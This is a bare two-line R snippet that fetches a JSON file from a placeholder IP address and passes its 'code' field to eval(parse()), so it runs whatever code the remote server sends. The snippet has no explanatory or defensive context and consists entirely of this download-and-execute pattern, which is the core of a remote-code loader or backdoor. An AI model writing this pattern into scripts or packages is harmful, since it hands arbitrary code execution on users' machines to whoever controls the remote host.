x <- jsonlite::fromJSON("https://203.0.113.1/cmd.json")
eval(parse(text = x$code))
